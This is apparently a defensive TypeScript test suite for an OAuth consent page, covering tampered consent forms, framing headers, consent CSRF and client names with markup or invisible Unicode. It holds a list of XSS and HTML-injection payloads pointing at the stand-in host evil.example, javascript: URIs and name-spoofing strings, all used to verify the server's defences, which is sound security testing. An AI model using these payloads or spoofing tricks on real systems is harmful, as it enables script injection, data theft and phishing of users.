/** OA: the consent page: what it shows, to whom, and that nobody else's answer counts. */
import { naughtyStrings } from "../../../support/vectors.ts";
import { type Answer, L400, page as pageAnswer } from "../../answers.ts";
import type { AttackCase, Attempt } from "../../framework.ts";
import { outlinesOf } from "../../outline.ts";
import { type Changes, Flow, hosted, loopback, newClient, personsBrowser, register } from "../../oauth-flow.ts";

/** Markup that ends what it stands in, runs, loads or sends; the Big List of Naughty Strings has more of it. */
const markup: readonly string[] = [
  `<script>alert(1)</script>`,
  `</strong></p><form action=https://evil.example><input name=x>`,
  `"><img src=x onerror=alert(1)>`,
  `' onmouseover='alert(1)`,
  `<svg/onload=alert(1)>`,
  `<math><mtext></form><form action=https://evil.example>`,
  `<style>*{background:url(https://evil.example)}</style>`,
  `<base href=https://evil.example>`,
  `<meta http-equiv=refresh content=0;url=https://evil.example>`,
  `<link rel=stylesheet href=https://evil.example>`,
  `<a href=javascript:alert(1)>x</a>`,
  `<!--`,
  `-->`,
  `]]>`,
  `<![CDATA[`,
  `</title><script>`,
  `&lt;script&gt;`,
  `&#60;script&#62;`,
  `\${7*7}`,
  `{{7*7}}`,
  `<plaintext>`,
  `<noscript><img src=https://evil.example>`,
  `<iframe srcdoc=x>`,
];

const shown = (name: string) => name.replaceAll(/[\p{Cc}\p{Cf}]/gu, "");

/** The page that asks, and no way around it. */
const consentShown = (flow: Flow, changes: Changes = {}) =>
  flow.consent(changes).then(({ status, headers, text }) => [status, headers.get("location"), text.includes('value="allow"')]);
const isShown = [200, null, true];

export const consentCases: readonly AttackCase[] = [
  {
    id: "OA-17",
    title: "an answer to another question than the one that was shown",
    modes: ["oauth"],
    async play(stage) {
      const amara = stage.person("amara.okafor");
      const flow = new Flow(stage, await newClient(stage), amara);
      const attackers = new Flow(stage, await newClient(stage), amara);
      const page = await flow.consent({ scope: "m365.read" });
      const foreign = (await attackers.consent()).text.match(/name="handle" value="([^"]*)"/)?.[1] ?? "";
      const handle = page.text.match(/name="handle" value="([^"]*)"/)?.[1] ?? "";
      const tampered = (name: string, changes: Changes, decision?: string): Attempt => ({
        name,
        send: () => flow.decide(page, changes, decision),
        answer: L400,
        reason: "consent_tampered",
      });
      await stage.refuses(
        [
          tampered("the handle of another browser's consent", { handle: foreign }),
          tampered("no handle", { handle: null }),
          tampered("two handles", { handle: [handle, foreign] }),
          tampered("a bent handle", { handle: `${handle}x` }),
          tampered("a handle without its signature", { handle: handle.split(".").slice(0, 2).join(".") }),
          tampered("neither yes nor no", { decision: "maybe" }),
          tampered("yes and no", { decision: ["allow", "deny"] }),
        ],
        { parallel: 1 },
      );
      for (const [name, scope] of [
        ["a scope nobody offers", ["m365.read", "m365.admin"]],
        ["a scope the client did not ask for", ["m365.read", "m365.write"]],
        ["a scope of Microsoft's", ["Mail.ReadWrite"]],
      ] as const) {
        const fresh = await flow.consent({ scope: "m365.read" });
        await stage.refuses([{ name, send: () => flow.decide(fresh, { scope }), answer: L400, reason: "consent_tampered" }]);
      }
      const good = await flow.consent();
      stage.holds("the form as it was shown", 302, (await flow.decide(good)).status);
      await stage.refuses([
        { name: "the same form again", send: () => flow.decide(good), answer: L400, reason: ["consent_tampered", "state_used"] },
      ]);
    },
  },
  {
    id: "OA-18",
    title: "our pages in somebody's frame",
    async play(stage) {
      const { origin } = stage.contract;
      const browser = personsBrowser(stage, stage.person("amara.okafor"));
      const pages = [`${origin}/connect`, `${origin}/connections`, `${origin}/callback`];
      if (stage.mode === "oauth") pages.push(new Flow(stage, await newClient(stage)).url(), `${origin}/authorize`);
      for (const url of pages) {
        const { headers } = await browser.visit(url);
        const policy = headers.get("content-security-policy") ?? "";
        stage.holds(
          new URL(url).pathname,
          ["DENY", true, true, "same-origin"],
          [
            headers.get("x-frame-options"),
            policy.startsWith("default-src 'none'"),
            policy.includes("frame-ancestors 'none'"),
            headers.get("cross-origin-opener-policy"),
          ],
        );
      }
    },
  },
  {
    id: "OA-19",
    title: "markup in everything a client says of itself",
    modes: ["oauth"],
    async play(stage) {
      const names = [...new Set([...markup, ...naughtyStrings()])].filter((name) => name !== "" && name.length <= 200);
      const plain = (await new Flow(stage, await newClient(stage, { client_name: "Plain" })).consent()).text;
      const pages: string[] = [];
      const policies = new Set<string>();
      const waiting = [...names];
      const work = async () => {
        for (let name = waiting.shift(); name !== undefined; name = waiting.shift()) {
          const flow = new Flow(stage, await newClient(stage, { client_name: name }));
          const { text, headers } = await flow.consent({ state: name, scope: `m365.read m365.write ${name.replaceAll(/\s/g, "")}` });
          pages.push(text);
          policies.add((headers.get("content-security-policy") ?? "").replace(/sha256-[^']*/, "hash"));
        }
      };
      await Promise.all(Array.from({ length: 8 }, work));
      const [expected, ...outlines] = await outlinesOf([plain, ...pages]);
      stage.holds("pages looked at by a browser's parser", names.length, outlines.length);
      stage.holds(
        "pages with another element or attribute than the plain one",
        0,
        outlines.filter((outline) => outline !== expected).length,
      );
      stage.holds("policies", 1, policies.size);
      stage.holds("a policy that lets a page's own script or style in", false, /unsafe|script-src/.test([...policies].join(" ")));
      stage.holds("a picture on the page", false, /<img|logo/i.test(plain));
      const uris = ["javascript:alert(1)", "http://evil.example/", 'https://evil.example/"><script>', "data:text/html,x", "//evil.example"];
      for (const uri of uris) {
        for (const member of ["client_uri", "logo_uri", "tos_uri", "policy_uri"]) {
          const answer = await register(stage, { redirect_uris: [loopback], [member]: uri });
          if (answer.status !== 201) continue;
          const { client_id: clientId } = JSON.parse(answer.text) as { client_id: string };
          const { text } = await new Flow(stage, { clientId, redirectUri: loopback }).consent();
          stage.holds(`${member} ${uri} is on the page`, false, text.includes("evil.example") || text.includes("alert"));
        }
      }
    },
  },
  {
    id: "OA-20",
    title: "a name that is spelled to look like another",
    modes: ["oauth"],
    async play(stage) {
      const names = [
        "Microsoft\u202e smaeT",
        "Micro\u200bsoft Teams",
        "\u2066Microsoft Teams\u2069",
        "\ufeffMicrosoft\u00adTeams",
        "Micro\u0000soft\u001b[31m",
        "\u{e0041}Teams",
      ];
      for (const name of names) {
        const flow = new Flow(stage, await newClient(stage, { client_name: name, redirect_uris: [hosted] }));
        const { text } = await flow.consent();
        stage.holds(`invisible characters of ${JSON.stringify(name)}`, false, /[\p{Cf}\u0000-\u0008\u001b]/u.test(text));
        stage.holds("its visible letters", true, text.includes(shown(name).replaceAll("&", "&amp;")));
        stage.holds("the host that access is sent to", true, text.includes(`<dd>${new URL(hosted).host}</dd>`));
        stage.holds("a word that the name is not verified", true, text.includes("named itself"));
      }
      const { text } = await new Flow(stage, await newClient(stage)).consent();
      stage.holds(
        "the warning of a loopback address",
        [true, true],
        [text.includes("program on this computer"), text.includes("<dd>127.0.0.1")],
      );
    },
  },
  {
    id: "OA-21",
    title: "a link of an attacker's client, opened by somebody who is signed in everywhere",
    modes: ["oauth"],
    async play(stage) {
      const amara = stage.person("amara.okafor");
      const browser = personsBrowser(stage, amara);
      await new Flow(stage, await newClient(stage), amara, browser).tokens();
      const attackers = new Flow(stage, await newClient(stage, { client_name: "Attacker" }), amara, browser);
      await stage.record.clear();
      stage.holds("the first time", isShown, await consentShown(attackers));
      for (const changes of [{ prompt: "none" }, { approval_prompt: "auto" }, { consent: "1" }, { login_hint: amara.email }]) {
        stage.holds(`with ${JSON.stringify(changes)}`, isShown, await consentShown(attackers, changes));
      }
      stage.holds(
        "requests to Microsoft",
        0,
        (await stage.record.outbound()).filter(({ host }) => host === new URL(stage.contract.entra.authority).host).length,
      );
    },
  },
  {
    id: "OA-22",
    title: "a consent given before, used for something else",
    modes: ["oauth"],
    async play(stage) {
      const amara = stage.person("amara.okafor");
      const client = await newClient(stage);
      const browser = personsBrowser(stage, amara);
      await new Flow(stage, client, amara, browser).tokens({ scope: "m365.read" });
      const again = new Flow(stage, client, amara, browser);
      stage.holds("the same once more", isShown, await consentShown(again, { scope: "m365.read" }));
      stage.holds("more scopes", isShown, await consentShown(again));
      stage.holds("another redirect", isShown, await consentShown(again, { redirect_uri: "http://127.0.0.1:50000/callback" }));
      stage.holds("no resource", isShown, await consentShown(again, { resource: null }));
      const jonas = stage.person("jonas.weber");
      const shared: Answer = pageAnswer("L400", 400);
      const page = await again.consent();
      const theirs = new Flow(stage, client, jonas);
      stage.holds("another person", isShown, await consentShown(theirs));
      await stage.refuses([
        {
          name: "her form, sent by another person in her browser",
          send: () => theirs.sendAs(again.browser, page),
          answer: shared,
          reason: "consent_csrf",
        },
      ]);
    },
  },
];
